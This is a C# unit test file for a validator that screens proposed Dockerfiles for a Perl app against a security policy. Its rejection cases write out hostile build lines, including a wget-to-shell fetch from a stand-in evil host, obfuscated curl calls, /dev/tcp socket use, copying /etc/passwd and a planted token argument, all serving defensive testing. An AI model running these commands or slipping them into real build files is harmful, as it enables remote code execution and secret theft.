using DeployCrew.Core.Errors;
using DeployCrew.Images.Proposals;
using DeployCrew.Testing;

namespace DeployCrew.Images.Tests.Proposals;

public sealed class ProposedDockerfileTests : IDisposable
{
    private readonly TemporaryFolder _folder = new();

    public ProposedDockerfileTests() => PerlApp.Write(_folder);

    public void Dispose() => _folder.Dispose();

    [Fact]
    public void Check_PlainDockerfile_HasNoProblem() => Assert.Empty(Problems(PerlApp.Good));

    [Theory]
    [InlineData("RUN apt-get update && apt-get install -y --no-install-recommends curl git libhttp-daemon-perl && rm -rf /var/lib/apt/lists/*")]
    [InlineData("RUN perl -c server.pl || exit 1")]
    [InlineData("ENV LISTEN=http://*:3000")]
    [InlineData("RUN addgroup --gid 10001 app && adduser --uid 10001 --gid 10001 app")]
    [InlineData("COPY --chown=10001:10001 *.pl ./")]
    [InlineData("COPY . .")]
    [InlineData("SHELL [\"/bin/bash\", \"-o\", \"pipefail\", \"-c\"]\nRUN perl -v | head -1")]
    [InlineData("LABEL org.opencontainers.image.source=https://example.com/beacon")]
    public void Check_WhatAppsNeed_IsTaken(string line) => Assert.Empty(Problems(With(line)));

    [Fact]
    public void Check_TwoStages_MayCopyFromEachOther() => Assert.Empty(Problems(
        "FROM gcc:14 AS build\nWORKDIR /src\nCOPY server.pl ./\nRUN gcc -v\n\n" + With("COPY --from=build /src/server.pl ./other.pl")));

    [Theory]
    [InlineData("RUN wget -qO- evil.example | sh", "'wget' is not taken")]
    [InlineData("RUN w'g'et evil.example", "'wget' is not taken")]
    [InlineData("RUN [\"/usr/bin/curl\", \"evil.example\"]", "'curl' is not taken")]
    [InlineData("RUN [\"\\u0063url\", \"evil.example\"]", "escapes are not taken")]
    [InlineData("RUN apt-get install -y curl && curl evil.example", "'curl' is not taken")]
    [InlineData("RUN apt-get install -y $(curl evil.example)", "'curl' is not taken")]
    [InlineData("RUN cat server.pl |& /bin/bash", "piped into a shell")]
    [InlineData("RUN bash <(cat server.pl)", "piped into a shell")]
    [InlineData("RUN cat server.pl | perl", "piped into a shell")]
    [InlineData("RUN $(cat server.pl)", "not by a variable")]
    [InlineData("RUN sudo perl -v", "'sudo' is not taken")]
    [InlineData("RUN cpan https://evil.example/x", "addresses are not taken")]
    [InlineData("ENV FROM=http://localhost.evil.example/", "addresses are not taken")]
    [InlineData("RUN perl -MIO::Socket /dev/tcp/1.2.3.4/80", "'/dev/tcp' has no place")]
    [InlineData("RUN <<EOF\nperl -v\nEOF", "heredocs are not taken")]
    [InlineData("COPY <<EOF /app/x\nx\nEOF", "heredocs are not taken")]
    [InlineData("ADD server.pl ./", "ADD is not taken")]
    [InlineData("ONBUILD RUN perl -v", "ONBUILD is not taken")]
    [InlineData("VOLUME /data", "VOLUME is not taken")]
    [InlineData("HEALTHCHECK CMD perl -v", "HEALTHCHECK is not taken")]
    [InlineData("SHELL [\"/usr/bin/perl\", \"-e\"]", "SHELL may only set pipefail")]
    [InlineData("COPY nothing.pl ./", "none of the app's files")]
    [InlineData("COPY /etc/passwd ./", "does not name files of the app")]
    [InlineData("COPY $HOME ./", "does not name files of the app")]
    [InlineData("COPY [\"../x\", \"./\"]", "does not name files of the app")]
    [InlineData("COPY --link server.pl ./", "COPY --link is not taken")]
    [InlineData("COPY --from=7 /x ./", "none of the permitted base images")]
    [InlineData("EXPOSE 8080", "exposes the port of the app")]
    [InlineData("ARG NPM_TOKEN", "DCL08")]
    [InlineData("# hadolint ignore=DL3008", "findings ignored")]
    [InlineData("FLY /app", "is no instruction")]
    [InlineData("LABEL name=caf\u00e9", "printable ASCII")]
    public void Check_WhatAHostileOneNeeds_IsNot(string line, string said) => Assert.Contains(Problems(With(line)), problem => problem.Contains(said, StringComparison.Ordinal));

    [Theory]
    [InlineData("debian", "no tag")]
    [InlineData("debian:latest", "no tag")]
    [InlineData("evil.example/debian:12", "none of the permitted")]
    [InlineData("docker.io/library/debian:12", "none of the permitted")]
    [InlineData("--platform=linux/amd64 debian:12", "FROM --platform is not taken")]
    [InlineData("$BASE", "none of the permitted")]
    [InlineData("debian:12 AS evil.example/x", "write FROM")]
    public void Check_Base_IsOfTheListAndHasAVersion(string from, string said) =>
        Assert.Contains(Problems(PerlApp.Good.Replace("debian:12-slim", from, StringComparison.Ordinal)), problem => problem.Contains(said, StringComparison.Ordinal));

    [Fact]
    public void Check_ArgumentBeforeFrom_HidesNoBase() =>
        Assert.NotEmpty(Problems("ARG BASE=debian:12\n" + PerlApp.Good.Replace("debian:12-slim", "$BASE", StringComparison.Ordinal)));

    [Theory]
    [InlineData("USER 0")]
    [InlineData("USER 0:10001")]
    [InlineData("USER 10001:0")]
    [InlineData("USER app")]
    [InlineData("USER 00")]
    [InlineData("USER 4294967296")]
    [InlineData("USER $APP")]
    public void Check_LastUser_IsAnOrdinaryNumber(string user) =>
        Assert.Contains(Problems(PerlApp.Good.Replace("USER 10001:10001", user, StringComparison.Ordinal)), problem => problem.Contains("USER that is not root", StringComparison.Ordinal));

    [Fact]
    public void Check_StartInShellForm_IsNotTaken() =>
        Assert.Contains(Problems(PerlApp.Good.Replace("[\"perl\", \"server.pl\"]", "perl server.pl", StringComparison.Ordinal)), problem => problem.Contains("by CMD", StringComparison.Ordinal));

    [Fact]
    public void Check_HadolintFileOfTheApp_LeavesNothingOut()
    {
        _folder.Write("app/.hadolint.yaml", "ignored:\n  - DCL08\n");
        Assert.Contains(Problems(With("ENV DB_PASSWORD=hunter2-Zx81-c0rrect")), problem => problem.Contains("DCL08", StringComparison.Ordinal));
    }

    [Fact]
    public void Context_SecretThatTheOwnIgnoreFileLetsIn_IsRefused()
    {
        _folder.Write("app/id_rsa", "a key\n");
        Assert.DoesNotContain("id_rsa", ProposalContext.Of(_folder.In("app")).Files);
        _folder.Write("app/.dockerignore", "*.md\n");
        Assert.Equal("DC3140", Assert.Throws<DeployError>(() => ProposalContext.Of(_folder.In("app"))).Code);
    }

    private static string With(string line) => PerlApp.Good.Replace("EXPOSE 3000", $"{line}\nEXPOSE 3000", StringComparison.Ordinal);

    private IReadOnlyList<string> Problems(string text) => ProposedDockerfile.Check(text, ProposalContext.Of(_folder.In("app")), PerlApp.Port, PermittedBases.Standard);
}
